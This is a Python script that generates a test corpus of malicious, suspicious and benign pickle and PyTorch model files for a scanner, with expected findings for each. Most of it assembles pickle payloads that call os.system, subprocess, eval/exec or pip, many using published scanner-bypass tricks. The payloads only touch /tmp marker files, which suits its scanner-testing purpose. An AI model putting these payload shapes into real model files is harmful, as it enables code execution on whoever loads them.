#!/usr/bin/env python3
"""Writes ward-scan's test corpus: malicious, suspicious and benign model files.

    python3 generate.py OUTDIR

Writes the files under OUTDIR and OUTDIR/expected.json, which maps each file's relative
path to what a scan must find:

    {"expect": "malicious" | "suspicious" | "benign",
     "min_severity": lowest acceptable worst finding (malicious/suspicious),
     "max_severity": highest acceptable worst finding (optional; benign is LOW),
     "mentions": a substring one finding at or above min_severity must contain (optional),
     "technique": what the file does}

Safety: this script NEVER unpickles, imports or loads a malicious file. Payloads are
harmless (they would `touch /tmp/ward-corpus-marker-<name>`), and most pickles are
assembled opcode by opcode so that modules such as torch are only named, never
imported. Python's pickle is used only to *write* benign objects or objects whose
__reduce__ names a callable, which pickling does not call. pickletools.dis, a pure
disassembler, checks that hand-assembled pickles are well formed.
"""

import base64
import gzip
import io
import json
import marshal
import os
import pickle
import pickletools
import random
import struct
import sys
import tarfile
import tempfile
import warnings
import zipfile

import h5py
import joblib
import numpy as np
import py7zr
import zstandard

MARKER = "/tmp/ward-corpus-marker-"
EXPECTED = {}
OUT = ""


def marker(name):
    return MARKER + name


def cmd(name):
    return "touch " + marker(name)


def py_cmd(name):
    return f"__import__('os').system('{cmd(name)}')"


# --- recording ----------------------------------------------------------------------


def write(name, data, expect, technique, min_severity=None, mentions=None, max_severity=None):
    """Writes OUT/name and records what a scan of it must find."""
    assert name not in EXPECTED, name
    assert (expect == "benign") == (min_severity is None), name
    path = os.path.join(OUT, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    entry = {"expect": expect, "technique": technique}
    if min_severity:
        entry["min_severity"] = min_severity
    if max_severity:
        entry["max_severity"] = max_severity
    if mentions:
        entry["mentions"] = mentions
    EXPECTED[name] = entry


def malicious(name, data, severity, technique, mentions=None):
    write(name, data, "malicious", technique, min_severity=severity, mentions=mentions)


def suspicious(name, data, technique, mentions=None):
    # Neither deny- nor allow-listed: exactly MEDIUM, neither passed nor over-graded.
    write(name, data, "suspicious", technique, "MEDIUM", mentions, max_severity="MEDIUM")


def benign(name, data, technique):
    write(name, data, "benign", technique)


# --- a tiny pickle assembler (opcode bytes; see Lib/pickletools.py for the table) ----


def proto(n):
    return b"\x80" + bytes([n])


def glob(module, name):  # GLOBAL: text module and name, newline-terminated
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def inst(module, name):  # INST: like GLOBAL, then calls it with the items above MARK
    return b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def ustr(s):  # BINUNICODE (protocol 1+)
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def sstr(s):  # SHORT_BINUNICODE (protocol 4+)
    b = s.encode()
    assert len(b) < 256
    return b"\x8c" + bytes([len(b)]) + b


def text_str(s):  # STRING (protocol 0): a quoted repr, newline-terminated
    return b"S" + repr(s).encode() + b"\n"


def binbytes(b):
    return b"B" + struct.pack("<I", len(b)) + b


def integer(n):
    if 0 <= n < 256:
        return b"K" + bytes([n])
    if 0 <= n < 65536:
        return b"M" + struct.pack("<H", n)
    if -(2**31) <= n < 2**31:
        return b"J" + struct.pack("<i", n)
    raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw  # LONG1


def binput(i):
    return b"q" + bytes([i])


def binget(i):
    return b"h" + bytes([i])


MARK, STOP, REDUCE, TUPLE, TUPLE1, TUPLE2 = b"(", b".", b"R", b"t", b"\x85", b"\x86"
EMPTY_TUPLE, EMPTY_DICT, EMPTY_LIST, NONE = b")", b"}", b"]", b"N"
NEWTRUE, NEWFALSE, SETITEMS, SETITEM, APPENDS, BUILD = b"\x88", b"\x89", b"u", b"s", b"e", b"b"
POP, STACK_GLOBAL, MEMOIZE, NEWOBJ, NEWOBJ_EX, OBJ = b"0", b"\x93", b"\x94", b"\x81", b"\x92", b"o"
BINPERSID = b"Q"


def val(v):
    """Opcodes that push a simple Python value (protocol 2 forms)."""
    if v is None:
        return NONE
    if v is True or v is False:
        return NEWTRUE if v else NEWFALSE
    if isinstance(v, int):
        return integer(v)
    if isinstance(v, float):
        return b"G" + struct.pack(">d", v)
    if isinstance(v, str):
        return ustr(v)
    if isinstance(v, bytes):
        return binbytes(v)
    if isinstance(v, tuple):
        return MARK + b"".join(val(x) for x in v) + TUPLE
    if isinstance(v, list):
        return EMPTY_LIST + (MARK + b"".join(val(x) for x in v) + APPENDS if v else b"")
    if isinstance(v, dict):
        items = b"".join(val(k) + val(x) for k, x in v.items())
        return EMPTY_DICT + (MARK + items + SETITEMS if v else b"")
    raise TypeError(type(v))


def call(module, name, *args):
    """GLOBAL module.name, args tuple, REDUCE: the classic payload shape."""
    return glob(module, name) + val(tuple(args)) + REDUCE


def frame(body):  # FRAME (protocol 4+): 8-byte length of what follows
    return b"\x95" + struct.pack("<Q", len(body)) + body


def checked(data):
    """A well-formed pickle stream (all pickles in it), proved by disassembly only."""
    stream = io.BytesIO(data)
    while stream.tell() < len(data):
        pickletools.dis(stream, out=io.StringIO())
    return data


def p2(*ops):
    return checked(proto(2) + b"".join(ops) + STOP)


# --- pickle payloads: the classic shapes -------------------------------------------


def pickle_p0_os_system():
    # GLOBAL os.system + REDUCE in protocol 0 (all text, no PROTO opcode).
    data = glob("os", "system") + MARK + text_str(cmd("p0")) + TUPLE + REDUCE + STOP
    malicious("pickle/p0_os_system.pkl", checked(data), "CRITICAL", "protocol 0 GLOBAL os.system REDUCE", "system")


def pickle_p2_posix_system():
    # What pickle.dumps writes for os.system on Linux: posix.system, protocol 2.
    data = p2(glob("posix", "system"), binput(0), ustr(cmd("p2")), TUPLE1, REDUCE)
    malicious("pickle/p2_posix_system.pkl", data, "CRITICAL", "protocol 2 GLOBAL posix.system REDUCE", "system")


def pickle_p2_nt_system():
    # The Windows alias of os: nt.system.
    data = p2(glob("nt", "system"), ustr(cmd("nt")), TUPLE1, REDUCE)
    malicious("pickle/p2_nt_system.pkl", data, "CRITICAL", "protocol 2 GLOBAL nt.system REDUCE", "system")


def pickle_p4_stack_global():
    # Protocol 4: FRAME, SHORT_BINUNICODE module/name, MEMOIZE, STACK_GLOBAL.
    body = sstr("os") + MEMOIZE + sstr("system") + MEMOIZE + STACK_GLOBAL + MEMOIZE
    body += sstr(cmd("p4")) + MEMOIZE + TUPLE1 + MEMOIZE + REDUCE + MEMOIZE + STOP
    malicious("pickle/p4_stack_global.pkl", checked(proto(4) + frame(body)), "CRITICAL",
              "protocol 4 FRAME + STACK_GLOBAL os.system", "system")


def pickle_p5_after_big_bytearray():
    # Protocol 5: a 1 MiB BYTEARRAY8 the scanner must skip, then the payload.
    blob = b"\x00" * (1 << 20)
    body = b"\x96" + struct.pack("<Q", len(blob)) + blob + POP
    body += sstr("os") + sstr("system") + STACK_GLOBAL + sstr(cmd("p5")) + TUPLE1 + REDUCE + STOP
    malicious("pickle/p5_after_bytearray8.pkl", checked(proto(5) + body), "CRITICAL",
              "protocol 5 payload after a 1 MiB BYTEARRAY8", "system")


def pickle_p0_inst():
    # INST: MARK args INST module name calls module.name(*args) (protocol 0).
    data = MARK + text_str(cmd("inst")) + inst("os", "system") + STOP
    malicious("pickle/p0_inst.pkl", checked(data), "CRITICAL", "protocol 0 INST os.system", "system")


def pickle_p1_obj():
    # OBJ: MARK class args OBJ calls class(*args) when class is not a type.
    data = MARK + glob("os", "system") + ustr(cmd("obj")) + OBJ + STOP
    malicious("pickle/p1_obj.pkl", checked(data), "CRITICAL", "protocol 1 OBJ os.system", "system")


def pickle_p2_newobj():
    # NEWOBJ: cls.__new__(cls, *args) on subprocess.Popen.
    data = p2(glob("subprocess", "Popen"), val((["touch", marker("newobj")],)), NEWOBJ)
    malicious("pickle/p2_newobj.pkl", data, "CRITICAL", "protocol 2 NEWOBJ subprocess.Popen", "Popen")


def pickle_p4_newobj_ex():
    # NEWOBJ_EX: cls, args, kwargs on subprocess.Popen.
    body = sstr("subprocess") + sstr("Popen") + STACK_GLOBAL + EMPTY_TUPLE
    body += EMPTY_DICT + sstr("args") + val(["touch", marker("newobj-ex")]) + SETITEM + NEWOBJ_EX + STOP
    malicious("pickle/p4_newobj_ex.pkl", checked(proto(4) + frame(body)), "CRITICAL",
              "protocol 4 NEWOBJ_EX subprocess.Popen(args=...)", "Popen")


def pickle_memo_stack_global():
    # STACK_GLOBAL whose strings come from the memo, after popped decoy strings
    # (picklescan memo confusion, picklescan issue #22; modelaudit PR #518 decoys).
    body = sstr("os") + binput(1) + POP + sstr("system") + binput(2) + POP
    body += sstr("collections") + sstr("OrderedDict") + POP + POP
    body += binget(1) + binget(2) + STACK_GLOBAL + sstr(cmd("memo")) + TUPLE1 + REDUCE + STOP
    malicious("pickle/memo_stack_global.pkl", checked(proto(4) + body), "CRITICAL",
              "STACK_GLOBAL from BINGET memo strings with popped decoys", "system")


def pickle_memoize_stack_global():
    # The same with MEMOIZE-numbered memo entries (protocol 4 implicit indices).
    body = sstr("posix") + MEMOIZE + POP + sstr("system") + MEMOIZE + POP
    body += binget(0) + binget(1) + STACK_GLOBAL + sstr(cmd("memoize")) + TUPLE1 + REDUCE + STOP
    malicious("pickle/memoize_stack_global.pkl", checked(proto(4) + body), "CRITICAL",
              "STACK_GLOBAL from MEMOIZE memo strings", "system")


def pickle_getattr_import():
    # builtins.getattr(builtins.__import__('os'), 'system')(cmd).
    data = p2(glob("builtins", "getattr"), MARK, call("builtins", "__import__", "os"), ustr("system"), TUPLE,
              REDUCE, ustr(cmd("getattr")), TUPLE1, REDUCE)
    malicious("pickle/getattr_import_os.pkl", data, "CRITICAL",
              "builtins.getattr(__import__('os'), 'system') chain", "system")


def pickle_getattr_concat():
    # getattr(codecs.builtins, 'ex' + 'ec') with the name built by operator.add:
    # codecs imports builtins, so GLOBAL codecs.builtins is the builtins module.
    name = call("operator", "add", "ex", "ec")
    data = p2(glob("builtins", "getattr"), MARK, glob("codecs", "builtins"), name, TUPLE, REDUCE,
              ustr(py_cmd("concat")), TUPLE1, REDUCE)
    malicious("pickle/getattr_concat_exec.pkl", data, "CRITICAL",
              "getattr(codecs.builtins, operator.add('ex','ec'))", "exec")


def pickle_dotted_global():
    # Protocol 4 resolves dotted names: logging.os.system reaches os through an
    # innocent-looking module (modelscan issue #89 used numpy.prod.os.system).
    body = sstr("logging") + sstr("os.system") + STACK_GLOBAL + sstr(cmd("dotted")) + TUPLE1 + REDUCE + STOP
    malicious("pickle/dotted_global_logging_os.pkl", checked(proto(4) + body), "CRITICAL",
              "STACK_GLOBAL logging 'os.system' dotted attribute path", "system")


def pickle_numpy_builtins():
    # builtins.dict.get(numpy.__builtins__, 'exec') (modelscan issue #89, first PoC).
    data = proto(4) + glob("builtins", "dict.get") + glob("numpy", "__builtins__") + ustr("exec")
    data += TUPLE2 + REDUCE + ustr(py_cmd("np-builtins")) + TUPLE1 + REDUCE + STOP
    malicious("pickle/numpy_builtins_dict_get.pkl", checked(data), "HIGH",
              "dict.get(numpy.__builtins__, 'exec')", "__builtins__")


def pickle_introspection():
    # builtins print.__self__ dunder chain to the builtins module's exec
    # (attribute-chain class of modelscan issue #338).
    data = proto(4) + glob("builtins", "print.__self__.exec") + ustr(py_cmd("introspect")) + TUPLE1 + REDUCE + STOP
    malicious("pickle/dunder_chain_print_self.pkl", checked(data), "HIGH",
              "GLOBAL builtins 'print.__self__.exec' dunder chain", "__self__")


def pickle_ext_codes(opcode, code_bytes, code, label):
    # copyreg.add_extension('os', 'system', code) at load time, then EXTn code.
    register = call("copyreg", "add_extension", "os", "system", code) + POP
    data = p2(register, opcode + code_bytes, ustr(cmd(label)), TUPLE1, REDUCE)
    malicious(f"pickle/{label}.pkl", data, "HIGH", f"{label}: EXT code registered by copyreg.add_extension")


def pickle_ext1():
    pickle_ext_codes(b"\x82", bytes([0xF0]), 0xF0, "ext1")


def pickle_ext2():
    pickle_ext_codes(b"\x83", struct.pack("<H", 0x4242), 0x4242, "ext2")


def inner_payload(label):
    return p2(glob("posix", "system"), ustr(cmd(label)), TUPLE1, REDUCE)


def pickle_nested_loads():
    # pickle.loads(b'<a pickle inside bytes>').
    data = p2(glob("pickle", "loads"), binbytes(inner_payload("nested")), TUPLE1, REDUCE)
    malicious("pickle/nested_pickle_loads.pkl", data, "CRITICAL", "pickle.loads of an inner pickle", "loads")


def pickle_nested_c_loads():
    # _pickle.loads, the C implementation (modelscan PR #270).
    data = p2(glob("_pickle", "loads"), binbytes(inner_payload("nested-c")), TUPLE1, REDUCE)
    malicious("pickle/nested_cpickle_loads.pkl", data, "CRITICAL", "_pickle.loads of an inner pickle", "loads")


def pickle_attrgetter():
    # operator.attrgetter('system')(logging.os)(cmd) (GHSA-m273-6v24-x4m4 class).
    data = p2(call("operator", "attrgetter", "system"), glob("logging", "os"), TUPLE1, REDUCE,
              ustr(cmd("attrgetter")), TUPLE1, REDUCE)
    malicious("pickle/operator_attrgetter.pkl", data, "CRITICAL",
              "operator.attrgetter('system') applied to logging.os", "attrgetter")


def pickle_methodcaller_partial():
    # functools.partial(operator.methodcaller('system', cmd), logging.os)()
    # (functools.partial wrapper bypass, fickling PR #210).
    mc = call("operator", "methodcaller", "system", cmd("partial"))
    data = p2(glob("functools", "partial"), MARK, mc, glob("logging", "os"), TUPLE, REDUCE, EMPTY_TUPLE, REDUCE)
    malicious("pickle/functools_partial_methodcaller.pkl", data, "CRITICAL",
              "functools.partial(operator.methodcaller('system', ...), logging.os)", "methodcaller")


def pickle_resolve_name():
    # pkgutil.resolve_name('os:system')(cmd) (GHSA-vvpj-8cmc-gx39, universal bypass).
    data = p2(call("pkgutil", "resolve_name", "os:system"), ustr(cmd("resolve")), TUPLE1, REDUCE)
    malicious("pickle/pkgutil_resolve_name.pkl", data, "CRITICAL", "pkgutil.resolve_name('os:system')",
              "resolve_name")


def pickle_import_module():
    # getattr(importlib.import_module('os'), 'system') (picklescan issue #66).
    data = p2(glob("builtins", "getattr"), MARK, call("importlib", "import_module", "os"), ustr("system"),
              TUPLE, REDUCE, ustr(cmd("importlib")), TUPLE1, REDUCE)
    malicious("pickle/importlib_import_module.pkl", data, "CRITICAL", "importlib.import_module('os')",
              "import_module")


def pickle_marshal_function():
    # types.FunctionType(marshal.loads(<code object>), {})() (picklescan PR #74).
    code = marshal.dumps(compile(py_cmd("marshal"), "<corpus>", "exec"))
    data = p2(glob("types", "FunctionType"), MARK, call("marshal", "loads", code), EMPTY_DICT, TUPLE, REDUCE,
              EMPTY_TUPLE, REDUCE)
    malicious("pickle/marshal_function.pkl", data, "CRITICAL", "marshal.loads code object + types.FunctionType",
              "marshal")


def pickle_interactive_interpreter():
    # code.InteractiveInterpreter().runsource(src) via the dotted unbound method.
    interp = glob("code", "InteractiveInterpreter") + EMPTY_TUPLE + REDUCE
    data = proto(4) + glob("code", "InteractiveInterpreter.runsource") + MARK + interp
    data += ustr(py_cmd("interp")) + TUPLE + REDUCE + STOP
    malicious("pickle/code_interactive_interpreter.pkl", checked(data), "CRITICAL",
              "code.InteractiveInterpreter.runsource (picklescan PR #48)", "InteractiveInterpreter")


def pickle_asyncio_transport():
    # asyncio.unix_events._UnixSubprocessTransport._start(...) (JFrog CVE-2025-10157).
    data = proto(4) + glob("asyncio.unix_events", "_UnixSubprocessTransport._start")
    data += val((None, cmd("asyncio"), True, None, None, None, 0)) + REDUCE + STOP
    malicious("pickle/asyncio_subprocess_transport.pkl", checked(data), "CRITICAL",
              "asyncio.unix_events._UnixSubprocessTransport._start", "asyncio")


# Denied callables called with GLOBAL + REDUCE (protocol 2): (file, module, name,
# args, severity, mentions, technique and where it was published).
SIMPLE_CALLS = [
    ("builtins_eval", "builtins", "eval", (py_cmd("eval"),), "CRITICAL", "eval", "builtins.eval"),
    ("builtins_exec", "builtins", "exec", (py_cmd("exec"),), "CRITICAL", "exec", "builtins.exec"),
    ("builtins_compile", "builtins", "compile", (py_cmd("compile"), "<x>", "exec"), "CRITICAL", "compile",
     "builtins.compile"),
    ("builtins_import", "builtins", "__import__", ("os",), "CRITICAL", "__import__", "builtins.__import__"),
    ("py2_builtin_eval", "__builtin__", "eval", (py_cmd("py2eval"),), "CRITICAL", "eval",
     "Python 2 alias __builtin__.eval"),
    ("builtins_open_write", "builtins", "open", (marker("open"), "w"), "HIGH", "open", "builtins.open for writing"),
    ("runpy_run_code", "runpy", "_run_code", (py_cmd("runpy"), {}), "CRITICAL", "_run_code", "runpy._run_code"),
    ("subprocess_popen", "subprocess", "Popen", (["touch", marker("popen")],), "CRITICAL", "Popen",
     "subprocess.Popen"),
    ("subprocess_check_output", "subprocess", "check_output", (["touch", marker("check-output")],), "CRITICAL",
     "check_output", "subprocess.check_output"),
    ("webbrowser_open", "webbrowser", "open", ("http://127.0.0.1:9/ward-corpus",), "HIGH", "webbrowser",
     "webbrowser.open"),
    ("socket_connect", "socket", "create_connection", (("127.0.0.1", 9),), "HIGH", "socket",
     "socket.create_connection"),
    ("shutil_rmtree", "shutil", "rmtree", (marker("rmtree"),), "HIGH", "rmtree", "shutil.rmtree (picklescan PR #29)"),
    ("pip_main", "pip", "main", (["install", "--no-index", "ward-corpus-nonexistent"],), "CRITICAL", "pip",
     "pip.main (CVE-2025-1716)"),
    ("torch_load", "torch", "load", (marker("torch-load.pt"),), "HIGH", "torch.load", "nested torch.load"),
    ("numpy_load", "numpy", "load", (marker("numpy-load.npy"), None, True), "HIGH", "numpy.load",
     "nested numpy.load(allow_pickle=True)"),
    ("pydoc_pipepager", "pydoc", "pipepager", ("x", cmd("pipepager")), "CRITICAL", "pipepager",
     "pydoc.pipepager (picklescan advisories)"),
    ("timeit_timeit", "timeit", "timeit", (py_cmd("timeit"),), "CRITICAL", "timeit",
     "timeit.timeit (picklescan PR #40)"),
    ("cprofile_run", "cProfile", "run", (py_cmd("cprofile"),), "CRITICAL", "cProfile",
     "cProfile.run (GHSA-9w88-8rmg-7g2p class)"),
    ("pdb_run", "pdb", "run", (py_cmd("pdb"),), "CRITICAL", "pdb", "pdb.run (picklescan PR #29)"),
    ("doctest_debug_script", "doctest", "debug_script", (py_cmd("doctest"),), "CRITICAL", "debug_script",
     "doctest.debug_script (GHSA-fqq6-7vqf-w3fg)"),
    ("posixsubprocess_fork_exec", "_posixsubprocess", "fork_exec",
     ([b"/usr/bin/touch", marker("fork-exec").encode()], [b"/usr/bin/touch"], True, (), None, None,
      -1, -1, -1, -1, -1, -1, -1, -1, False, False, None, None, None, -1, None, False), "CRITICAL",
     "_posixsubprocess", "_posixsubprocess.fork_exec"),
    ("ctypes_cdll", "ctypes", "CDLL", ("libc.so.6",), "HIGH", "ctypes", "ctypes.CDLL loads native code"),
    ("numpy_testing_runstring", "numpy.testing._private.utils", "runstring", (py_cmd("runstring"), {}),
     "CRITICAL", "runstring", "numpy.testing runstring (picklescan PR #40)"),
    ("multiprocessing_spawnv_passfds", "multiprocessing.util", "spawnv_passfds",
     (b"/bin/sh", ("/bin/sh", "-c", cmd("spawnv")), ()), "CRITICAL", "spawnv_passfds",
     "multiprocessing.util.spawnv_passfds (saferpickle issue #18)"),
    ("torch_collect_env_run", "torch.utils.collect_env", "run", (cmd("collect-env"),), "CRITICAL",
     "collect_env", "torch.utils.collect_env.run (saferpickle issue #18)"),
    ("uuid_get_command_stdout", "uuid", "_get_command_stdout", ("touch", marker("uuid")), "CRITICAL",
     "_get_command_stdout", "uuid._get_command_stdout"),
    ("ensurepip_run_pip", "ensurepip", "_run_pip", (["install", "ward-corpus-nonexistent"],), "CRITICAL",
     "ensurepip", "ensurepip._run_pip (GHSA-xp4f-hrf8-rxw7)"),
    ("distutils_write_file", "distutils.file_util", "write_file", (marker("distutils"), ["x"]), "HIGH",
     "write_file", "distutils.file_util.write_file (fickling PR #210)"),
]


def pickle_simple_calls():
    for label, module, name, args, severity, mentions, technique in SIMPLE_CALLS:
        data = p2(call(module, name, *args))
        malicious(f"pickle/{label}.pkl", data, severity, technique + " via GLOBAL + REDUCE", mentions)


# --- pickle payloads: hostile stream shapes -----------------------------------------


def pickle_truncated_tail():
    # Payload, then a BINUNICODE claiming 1000 bytes with 10 present (no STOP).
    data = inner_payload("truncated")[:-1] + POP + b"X" + struct.pack("<I", 1000) + b"0123456789"
    malicious("pickle/truncated_tail.pkl", data, "CRITICAL", "payload before a truncated tail", "system")


def pickle_corrupted_tail():
    # Payload, then bytes that are no opcode at all.
    data = inner_payload("corrupted")[:-1] + POP + b"\xff\xfe\xfd" * 20
    malicious("pickle/corrupted_tail.pkl", data, "CRITICAL", "payload before a corrupted tail", "system")


def pickle_second_of_two():
    # A benign pickle, then a malicious one in the same stream (pickle.load twice).
    first = pickle.dumps({"epoch": 3, "lr": 0.01}, protocol=2)
    malicious("pickle/second_of_two.pkl", checked(first + inner_payload("second")), "CRITICAL",
              "payload in the second of two concatenated pickles", "system")


def pickle_unknown_callable():
    # A callable on neither list.
    data = p2(call("mymodule", "innocuous_looking", "weights"))
    suspicious("pickle/unknown_callable.pkl", data, "GLOBAL mymodule.innocuous_looking REDUCE",
               "mymodule.innocuous_looking")


def pickle_misnamed():
    # Recognition by content: a pickle named like other formats, or with no extension.
    for name in ("misnamed/model.safetensors", "misnamed/weights.npy", "misnamed/model"):
        label = name.split("/")[-1].replace(".", "-")
        malicious(name, inner_payload(label), "CRITICAL", f"pickle named {name.split('/')[-1]}", "system")


# --- benign pickles -----------------------------------------------------------------


def sklearn_like_state():
    rng = np.random.default_rng(1)
    from collections import OrderedDict

    params = OrderedDict([("C", 1.0), ("penalty", "l2"), ("max_iter", 100), ("classes", [0, 1, 2])])
    return {
        "coef_": rng.standard_normal((3, 8)).astype(np.float64),
        "intercept_": rng.standard_normal(3),
        "classes_": np.array([0, 1, 2], dtype=np.int64),
        "n_iter_": np.int32(42),
        "score": np.float64(0.93),
        "params": params,
        "feature_names": ("a", "b", "c", "d", "e", "f", "g", "h"),
        "tags": {"linear", "multiclass"},
        "frozen": frozenset({1, 2}),
    }


def pickle_benign():
    state = sklearn_like_state()
    # numpy arrays as pickle.dumps writes them: _reconstruct/ndarray/dtype/_codecs (p2).
    benign("benign/sklearn_like_p2.pkl", pickle.dumps(state, protocol=2), "sklearn-like state, protocol 2")
    benign("benign/sklearn_like_p4.pkl", pickle.dumps(state, protocol=4), "sklearn-like state, protocol 4")
    # Protocol 5 (Python 3.14's default) pickles arrays through numpy._core.numeric._frombuffer.
    benign("benign/numpy_p5.pkl", pickle.dumps(state, protocol=5), "numpy arrays, protocol 5")
    # numpy < 2 wrote numpy.core.multiarray; protocol 2 GLOBAL text can be renamed in place.
    old = pickle.dumps(state, protocol=2).replace(b"numpy._core.multiarray", b"numpy.core.multiarray")
    benign("benign/sklearn_like_numpy1.pkl", checked(old), "numpy 1.x names, protocol 2")
    plain = {"vocab": {"<pad>": 0, "<unk>": 1, "hello": 2}, "sizes": [1, 2, 3], "name": "tokenizer", "x": 1.5}
    benign("benign/plain_p0.pkl", pickle.dumps(plain, protocol=0), "plain dict, protocol 0 text")
    benign("benign/plain_p1.pkl", pickle.dumps(plain, protocol=1), "plain dict, protocol 1")


# --- PyTorch: torch.save layouts, assembled by hand (torch is never imported) -------


class TorchPickle:
    """A torch.save-shaped protocol 2 pickle: memoized globals, storage persistent ids."""

    def __init__(self, legacy=False):
        self.out = [proto(2)]
        self.memo = {}
        self.next = 0
        self.legacy = legacy  # the pre-1.6 raw format adds view_metadata to the id

    def put(self):
        self.out.append(binput(self.next))
        self.next += 1
        return self.next - 1

    def glob(self, module, name):
        key = (module, name)
        if key in self.memo:
            self.out.append(binget(self.memo[key]))
        else:
            self.out.append(glob(module, name))
            self.memo[key] = self.put()

    def ordered_dict(self):
        self.glob("collections", "OrderedDict")
        self.out.append(EMPTY_TUPLE + REDUCE)
        self.put()

    def tensor(self, key, shape, storage="FloatStorage"):
        numel = int(np.prod(shape))
        stride = tuple(int(np.prod(shape[i + 1:])) for i in range(len(shape)))
        self.glob("torch._utils", "_rebuild_tensor_v2")
        self.out.append(MARK + MARK + ustr("storage"))
        self.glob("torch", storage)
        self.out.append(ustr(key) + ustr("cpu") + integer(numel) + (NONE if self.legacy else b"") + TUPLE)
        self.out.append(BINPERSID + integer(0) + val(tuple(shape)) + val(stride) + NEWFALSE)
        self.ordered_dict()
        self.out.append(TUPLE + REDUCE)
        self.put()

    def state_dict(self, tensors, extra=b""):
        """OrderedDict of name -> tensor (key = storage name), then _metadata BUILD."""
        self.ordered_dict()
        self.out.append(MARK)
        for name, (key, shape) in tensors.items():
            self.out.append(ustr(name))
            self.tensor(key, shape)
        self.out.append(extra + SETITEMS)
        self.out.append(EMPTY_DICT + ustr("_metadata"))
        self.ordered_dict()
        self.out.append(ustr("") + val({"version": 1}) + SETITEM + SETITEM + BUILD)

    def bytes(self):
        return checked(b"".join(self.out) + STOP)


TENSORS = {
    "conv1.weight": ("0", (8, 3, 3, 3)),
    "conv1.bias": ("1", (8,)),
    "fc.weight": ("2", (10, 32)),
    "fc.bias": ("3", (10,)),
}


def tensor_bytes(shape, seed):
    return np.random.default_rng(seed).standard_normal(shape).astype("<f4").tobytes()


def torch_zip(pickle_bytes, tensors=TENSORS, prefix="archive", extra_entries=()):
    """A torch.save zip: stored entries, data records aligned to 64 bytes as PyTorch does."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        entries = [(f"{prefix}/data.pkl", pickle_bytes), (f"{prefix}/byteorder", b"little")]
        for i, (key, shape) in enumerate(tensors.values()):
            entries.append((f"{prefix}/data/{key}", tensor_bytes(shape, i)))
        entries += list(extra_entries)
        entries += [(f"{prefix}/version", b"3\n"), (f"{prefix}/.format_version", b"1"),
                    (f"{prefix}/.storage_alignment", b"64"),
                    (f"{prefix}/.data/serialization_id", b"1234567890123456789")]
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            header = 30 + len(name.encode()) + 4
            pad = (-(buf.tell() + header)) % 64
            info.extra = struct.pack("<HH", 0x4246, pad) + b"Z" * pad  # PyTorch's 'FB' padding field
            zf.writestr(info, data)
    return buf.getvalue()


def malicious_state_pickle(label):
    # A real-shaped state dict with one extra entry whose value is os.system(cmd).
    extra = ustr("hook") + glob("posix", "system") + ustr(cmd(label)) + TUPLE1 + REDUCE
    tp = TorchPickle()
    tp.state_dict(TENSORS, extra)
    return tp.bytes()


def benign_state_pickle():
    tp = TorchPickle()
    tp.state_dict(TENSORS)
    return tp.bytes()


def torch_benign():
    # torch.save(model.state_dict()) layout: archive/data.pkl + data/N + version + byteorder.
    benign("torch/benign_state_dict.pt", torch_zip(benign_state_pickle()), "PyTorch zip checkpoint")
    # A checkpoint dict holding the state dict, an epoch and optimizer state.
    tp = TorchPickle()
    tp.out.append(EMPTY_DICT + MARK + ustr("epoch") + integer(7) + ustr("model_state_dict"))
    tp.state_dict(TENSORS)
    optim = {"state": {}, "param_groups": [{"lr": 0.001, "betas": (0.9, 0.999), "params": [0, 1, 2, 3]}]}
    tp.out.append(ustr("optimizer_state_dict") + val(optim) + SETITEMS)
    benign("torch/benign_checkpoint.pth", torch_zip(tp.bytes(), prefix="checkpoint"), "PyTorch training checkpoint")
    # One 4 MiB tensor the scanner must skip without reading.
    big = {"embed.weight": ("0", (1024, 1024))}
    tp = TorchPickle()
    tp.state_dict(big)
    benign("torch/benign_big_tensor.bin", torch_zip(tp.bytes(), tensors=big, prefix="pytorch_model"),
           "PyTorch zip with a 4 MiB stored tensor")


def patch_zip_entry(data, name, patch_local, patch_central):
    """Applies byte patches to one entry's local and central headers."""
    data = bytearray(data)
    raw = name.encode()
    local = data.find(b"PK\x03\x04")
    while local >= 0 and data[local + 30:local + 30 + len(raw)] != raw:
        local = data.find(b"PK\x03\x04", local + 4)
    central = data.find(b"PK\x01\x02")
    while central >= 0 and data[central + 46:central + 46 + len(raw)] != raw:
        central = data.find(b"PK\x01\x02", central + 4)
    assert local >= 0 and central >= 0, name
    patch_local(data, local)
    patch_central(data, central)
    return bytes(data)


def torch_malicious():
    # torch.save zip whose data.pkl carries os.system.
    malicious("torch/malicious_state_dict.pt", torch_zip(malicious_state_pickle("torch-zip")), "CRITICAL",
              "PyTorch zip with os.system in data.pkl", "system")
    # The pickle hides in a data record (archive/data/0) next to a benign data.pkl.
    hidden = [("archive/data/99", inner_payload("data-record"))]
    malicious("torch/pickle_in_data_record.pt", torch_zip(benign_state_pickle(), extra_entries=hidden),
              "CRITICAL", "malicious pickle in zip entry archive/data/99", "system")
    # A zip entry named x.txt holding a pickle (non-standard names, GHSA-769v-p64c-89pr).
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("notes/x.txt", inner_payload("x-txt"))
    malicious("torch/pickle_as_txt_entry.zip", buf.getvalue(), "CRITICAL", "pickle in zip entry x.txt", "system")
    # Bad CRC: Python's zipfile refuses to read it, PyTorch does not check (CVE-2025-10156).
    good = torch_zip(malicious_state_pickle("bad-crc"))

    def crc(off):
        return lambda d, at: d.__setitem__(slice(at + off, at + off + 4), b"\xde\xad\xbe\xef")

    malicious("torch/bad_crc.pt", patch_zip_entry(good, "archive/data.pkl", crc(14), crc(16)), "CRITICAL",
              "data.pkl with a wrong CRC (CVE-2025-10156)", "system")
    # Local header name differs from the central directory (GHSA-7q5r-7gvp-wc82 class).
    good = torch_zip(malicious_state_pickle("name-mismatch"))

    def rename(d, at):
        d[at + 30:at + 30 + 16] = b"archive/data.pkx"

    malicious("torch/local_name_mismatch.pt", patch_zip_entry(good, "archive/data.pkl", rename, lambda d, at: None),
              "CRITICAL", "data.pkl whose local header names another file", "system")
    # Encryption flag bit set on a plain entry (GHSA-w8jq-xcqf-f792: flag bits).
